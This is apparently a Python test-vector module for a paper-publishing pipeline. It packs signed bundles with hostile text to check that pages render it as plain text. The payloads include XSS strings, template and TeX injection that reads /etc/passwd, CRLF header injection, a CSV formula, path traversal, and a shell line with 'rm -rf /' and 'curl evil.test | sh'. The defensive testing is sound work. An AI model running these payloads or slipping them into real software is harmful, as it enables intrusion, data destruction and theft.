"""Hostile vectors: well signed, so that they are published, and full of what breaks pages."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from dataclasses import replace

from tests.vectors.builders import (
    PAPER,
    STRANGER,
    Json,
    Paper,
    bundle_of,
    bundle_with,
    creation_of,
    edited,
    event_of,
    number_of,
    paper_section,
    record_of,
    signed,
    signer_of,
    snapshot_of,
)
from tests.vectors.cases_integrity import integrity_event, payload_of
from tests.vectors.cases_record import ALIASES, SHORT, SUFFIX
from tests.vectors.cases_snapshots import bundle_with_snapshot
from tests.vectors.vector import (
    MALFORMED,
    NO_SIGNATURE,
    UNKNOWN_KEY,
    Vector,
    event_row,
    published,
    refused,
    unread,
    vector,
)

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
# Each is the title, the authors and the abstract of a record of its own.
_TEXTS: tuple[tuple[str, str], ...] = (
    ("html", f"{SCRIPT}<b>bold</b> &amp; &lt;i&gt; {IMAGE}"),
    ("html-attribute", "x' onmouseover='alert(1)' \" onfocus=\"alert(1)\" autofocus `"),
    ("html-end-tags", "</title></script></style></textarea></noscript></template>-->]]>"),
    ("html-comment", "<!-- <!DOCTYPE html [<!ENTITY x \"y\">]> <?xml version='1.0'?> <![CDATA["),
    ("svg", '</text></svg><svg onload="alert(1)"><use href="data:image/svg+xml,<svg/>"/>'),
    ("script-data", '</script><script>alert(1)</script>\u2028\u2029<!--<script>";alert(1);//'),
    ("template", "{{ 7*7 }} {% raw %} {{ config }} {# gone #} {%- endblock -%} ${7*7} #{7*7}"),
    ("markdown", "[x](javascript:alert(1)) ![y](//evil.test/z) **b** `c` | d | # e"),
    ("urls", "javascript:alert(1) data:text/html,x //evil.test/ http://evil.test/?a=b&c=d"),
    ("shell", "$(touch /tmp/x) `id` ; rm -rf / && curl evil.test | sh\u00a0\\"),
    ("direction", "\u202etxet desrever\u202c \u2067isolate\u2069 \u200fright \u061c \u200eleft"),
    ("zero-width", "zero\u200bwidth\u200cjoin\u200der\u2060\ufeffmark\u00adsoft\u034f\u180e"),
    ("nul", "before\u0000after"),
    ("c0", "".join(map(chr, range(1, 32))) + "x\u007f"),
    ("c1", "x" + "".join(map(chr, range(128, 160)))),
    ("noncharacters", "\ufffe\uffff\U0001fffe\U0010ffff\ufdd0 \ue000 \U000f0000"),
    ("combining", "Z" + "\u0335\u0489\u0301" * 200 + " e\u0301 \u00e9 \ufb01 \u212b"),
    ("emoji", "\U0001f469\u200d\U0001f52c\U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1e6\U0001f1f6"),
    (
        "script-mix",
        "\u4e2d\u6587 \u05e2\u05d1\u05e8\u05d9\u05ea \u0627\u0644\u0639 \u0e44\u0e17\u0e22",
    ),
    ("tex-file", "\\input{/etc/passwd} \\include{x} \\openin5=/etc/passwd \\write18{id} \\today"),
    (
        "tex-macro",
        "\\def\\x{\\x\\x}\\x \\newcommand{\\y}{\\y} \\csname z\\endcsname \\catcode`\\@=11",
    ),
    ("tex-broken", "$x^{ \\frac{1 \\begin{array} }}} \\end{itemize} $$ \\( \\] % comment \\"),
    ("tex-html", "\\href{javascript:alert(1)}{x} \\textbf{<b>} $a<b>c$ \\\"{<} \\'\\'\\'\\'"),
    ("long-word", "W" * 20_000),
    ("white-space-only", " \t\r\n\u00a0\u3000"),
    ("header-lines", "x\r\nSet-Cookie: a=b\r\n\r\n<html>"),
    ("csv-formula", "=cmd|' /C calc'!A0,\"x\"\t+1-1@SUM(1)"),
)


def _paper(name: str, **changes: Json) -> Paper:
    # A record of its own each, so that a site of all of them shows every one.
    number = int(hashlib.sha256(name.encode()).hexdigest(), 16) % 100_000
    return replace(PAPER, source_id=f"2308.{number:05}", **changes)


def text_vectors() -> Iterator[Vector]:
    """Text of every bad kind, in title, authors and abstract at once."""
    why = "signed and published: whatever the text, a page shows it as text"
    for name, text in _TEXTS:
        paper = _paper(name, title=text, authors=f"{text}, A. B.", abstract=text[:500])
        yield vector(f"hostile-text-{name}", why, bundle_of(paper), published())
    empty = bundle_of(_paper("empty", title="", authors="", abstract=""))
    yield vector("hostile-text-empty", why, empty, published(bindings=1))
    why = "more than any page shows"
    paper = _paper("megabyte", title="A megabyte of title. " * 50_000)
    yield vector("hostile-title-of-1-megabyte", why, bundle_of(paper), published())
    names = ", ".join(f"Author N. {i:05}" for i in range(10_000))
    paper = _paper("authors", authors=names)
    yield vector("hostile-authors-10000", why, bundle_of(paper), published())
    for name, title in (
        ("braces", "{" * 7_900 + "x" + "}" * 7_900),
        ("dollars", "$" * 15_000),
        ("accents", "\\'" * 7_000),
        ("fractions", "$" + "\\frac{" * 2_500 + "x" + "}" * 2_500 + "$"),
        ("scripts", "$" + "x_{" * 4_000 + "}" * 4_000 + "$"),
    ):
        why = "would exhaust a recursive TeX parser"
        bundle = bundle_of(_paper(name, title=title))
        yield vector(f"hostile-tex-nested-{name}", why, bundle, published())


def name_vectors() -> Iterator[Vector]:
    """Markup and odd names in events and signers."""
    why = "signed and published: names from a bundle are text, never markup or paths"
    for name, event_type, target in (
        ("html", f"note{SCRIPT}", IMAGE),
        ("path", "../../../index.html", "..\\..\\x"),
        ("javascript", "javascript:alert(1)", "data:text/html,x"),
        ("longest", "t" * 256, "g" * 256),
        ("prototype", "__proto__", "constructor"),
        ("format", "%s%n{0}{}", "{{7*7}}"),
    ):
        paper = _paper(f"event {name}")
        event = event_of(record_of(paper), event_type, {event_type: target}, target=target)
        bundle = bundle_of(paper, signed(event))
        yield vector(f"hostile-event-names-{name}", why, bundle, published(events=3))
    odd = replace(STRANGER, key_id=IMAGE, signer_id=SCRIPT)
    signer = {**signer_of(odd), "signer_type": "<svg onload=x>"}
    paper = _paper("signer html")
    event = signed({**event_of(record_of(paper), "note", {}), "signer": signer}, key=odd)
    expected = published(event_row(2, UNKNOWN_KEY), events=3)
    yield vector("hostile-signer-html", "an unknown signer", bundle_of(paper, event), expected)
    for path in ("key_id", "signer_id", "signer_type"):
        paper = _paper(f"signer {path}")
        signer = edited(signer_of(STRANGER), (path, "x\r\nSet-Cookie: a=b"))
        event = signed({**event_of(record_of(paper), "note", {}), "signer": signer}, key=STRANGER)
        name = f"hostile-{path.replace('_', '-')}-with-header-line"
        bundle = bundle_of(paper, event)
        yield vector(name, "malformed", bundle, published(event_row(2, MALFORMED), events=3))


def shape_vectors() -> Iterator[Vector]:
    """Events of every type, many events, unknown keys, identifiers full of markup."""
    events: list[Json] = [None, True, 0, 1.5, "x", [], [[]], {}]
    events += [{"event_type": None}, {"event_type": {}}]
    events += [{"event_type": "graph_snapshot", "payload": 1}, {"event_type": "pith.integrity.v1"}]
    rows = tuple(event_row(index, MALFORMED) for index in range(2, 14))
    bundle = bundle_of(_paper("types"), *events)
    why = "wrong types everywhere: each fails alone"
    yield vector("hostile-events-of-every-type", why, bundle, published(*rows, events=14))
    paper = _paper("many")
    many = [event_of(record_of(paper), f"note-{i}", {"i": i}) for i in range(500)]
    rows = tuple(event_row(index, NO_SIGNATURE) for index in range(2, 502))
    why = "many events that cannot be checked"
    bundle = bundle_of(paper, *many)
    yield vector("hostile-500-unsigned-events", why, bundle, published(*rows, events=502))
    unknown: Json = {
        "__proto__": {"x": 1},
        "constructor": None,
        SCRIPT: IMAGE,
        "toString": [],
        "": "",
    }
    bundle = {**bundle_of(_paper("unknown")), **unknown, "\u202e": 1}
    yield vector("hostile-unknown-keys", "unknown keys are carried", bundle, published())
    number = number_of(record_of(PAPER))
    for name, path, value, row in (
        ("pith-number-html", "pith_number", f"{number}{SCRIPT}", SUFFIX),
        ("pith-number-path", "pith_number", f"{number}/../..", SUFFIX),
        ("short-html", "short_pith_number", IMAGE, SHORT),
        ("alias-html", "source_aliases.0.alias_value", SCRIPT, ALIASES),
        ("alias-kind-html", "source_aliases.4.alias_kind", IMAGE, ALIASES),
        ("alias-path", "source_aliases.2.alias_value", "../../../etc/passwd", ALIASES),
    ):
        why = "not published: the report shows it as text"
        yield vector(f"hostile-{name}", why, edited(bundle_of(), (path, value)), refused(row))
    bundle = edited(bundle_of(), ("pith_number", f"{number}\r\nSet-Cookie: a=b"))
    yield vector("hostile-pith-number-with-header-line", "malformed", bundle, unread("V3"))
    kinds: tuple[tuple[str, Json], ...] = (
        ("null", None),
        ("numbers", 7),
        ("lists", []),
        ("texts", SCRIPT),
        ("objects", {}),
    )
    for name, value in kinds:
        fields = dict.fromkeys(bundle_of(), value)
        bundle = {**fields, "bundle_type": "pith_open_graph_bundle", "bundle_version": "1.0"}
        yield vector(f"hostile-every-field-of-{name}", "nothing to read", bundle, unread("V3"))


def licence_vectors() -> Iterator[Vector]:
    """Licences that are web addresses, and more than that."""
    for name, licence in (
        ("quotes", 'http://x/"onmouseover="alert(1)"\'><script>alert(1)</script>'),
        (
            "credentials",
            "https://user:secret@evil.test:99999/%0d%0aX:y?a=b&c=d#javascript:alert(1)",
        ),
        ("parentheses", "http://x/)](javascript:alert(1))"),
    ):
        record = record_of(_paper(f"licence {name}", license=licence))
        bundle = bundle_with(record, [creation_of(record)])
        expected = published(events=1, sections=0, bindings=0)
        yield vector(f"hostile-license-{name}", "signed and published", bundle, expected)


def snapshot_vectors() -> Iterator[Vector]:
    """Snapshots and findings full of markup, and of values of other types than the registry's."""
    paper = _paper("snapshot markup")
    snapshot = edited(
        snapshot_of(paper),
        ("paper.headline", SCRIPT),
        ("paper.license", "javascript:alert(1)"),
        ("paper.primary_cat", "../../x"),
        ("paper.cross_cats", [SCRIPT, None, {}]),
        ("paper.submitted_at", IMAGE),
        ("source", {"kind": SCRIPT, "id": "../..", "version": -1}),
        ("verdict", {"strongest_claim": SCRIPT, "one_line_summary": IMAGE, "model_set": [1]}),
        ("integrity.endpoint", "javascript:alert(1)"),
        ("integrity.summary", SCRIPT),
        ("integrity.clean", "yes"),
        ("builder_version", {"x": SCRIPT}),
    )
    bundle = bundle_with_snapshot(snapshot, paper=paper)
    why = "the signer's word, shown as text"
    yield vector("hostile-snapshot-markup", why, bundle, published())
    read = {"claims", "references", "formal_canon", "author_claims"}
    for name, value in (
        ("null", None),
        ("numbers", 7),
        ("lists", []),
        ("objects", {"a": [SCRIPT]}),
    ):
        paper = _paper(f"snapshot of {name}")
        section = paper_section(replace(paper, authors=None))
        bound = {"title", "abstract_excerpt"}
        odd = {k: v if k in read else value for k, v in snapshot_of(paper).items()}
        odd["paper"] = {k: v if k in bound else value for k, v in section.items()}
        del odd["integrity"]
        bundle = bundle_with_snapshot(odd, paper=paper)
        why = "fields that no check reads may have any type"
        yield vector(f"hostile-snapshot-of-{name}", why, bundle, published(sections=4))


def finding_vectors() -> Iterator[Vector]:
    """Integrity events whose unread fields hold markup, or have other types than the registry's."""
    texts = ("note", "snippet", "resolved_title", "detected_doi", "detector_version")
    for name, changes in (
        (
            "markup",
            {
                **dict.fromkeys(texts, SCRIPT),
                "detector": IMAGE,
                "finding_type": SCRIPT,
                "detector_url": "javascript:alert(1)",
                "external_url": "data:text/html,<script>alert(1)</script>",
            },
        ),
        (
            "types",
            {
                "note": {"a": [1]},
                "snippet": [],
                "ref_index": "x",
                "paper_version": None,
                "detector_url": 5,
            },
        ),
    ):
        paper = _paper(f"integrity {name}")
        event = integrity_event(payload_of(paper, **changes))
        bundle = bundle_of(paper, event)
        yield vector(f"hostile-integrity-{name}", "signed", bundle, published(events=3))


def hostile_vectors() -> Iterator[Vector]:
    """All of them."""
    yield from text_vectors()
    yield from name_vectors()
    yield from shape_vectors()
    yield from licence_vectors()
    yield from snapshot_vectors()
    yield from finding_vectors()
